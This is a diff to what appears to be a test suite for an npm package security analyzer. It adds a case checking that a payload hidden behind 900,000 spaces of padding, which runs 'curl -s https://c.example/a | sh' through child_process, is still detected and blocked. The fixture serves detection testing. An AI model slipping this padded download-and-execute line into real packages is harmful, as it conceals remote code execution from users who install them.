@@ -68,6 +68,15 @@ https.get(url, (res) => { const out = fs.createWriteStream('bin/esbuild'); res.p
     expect(detached.findings).toContainEqual(expect.objectContaining({ category: 'process-execution', severity: 'CRIT', file: 'setup.js', line: 1 }));
   });
 
+  it('still parses a payload padded with whitespace past the parse size limit', async () => {
+    const r = await analyze({
+      'package.json': manifest({ main: 'index.js' }),
+      'index.js': `module.exports = 1;${' '.repeat(900_000)}require('child_process').exec('curl -s https://c.example/a | sh');\n`,
+    });
+    expect(r.verdict).toBe('BLOCK');
+    expect(r.findings[0]).toMatchObject({ category: 'download-execute', file: 'index.js', line: 1 });
+  });
+
   it('keeps a CLI that reads HOME and spawns git with the environment at ALLOW', async () => {
     const r = await analyze({
       'package.json': manifest({ bin: { tool: 'cli.js' } }),
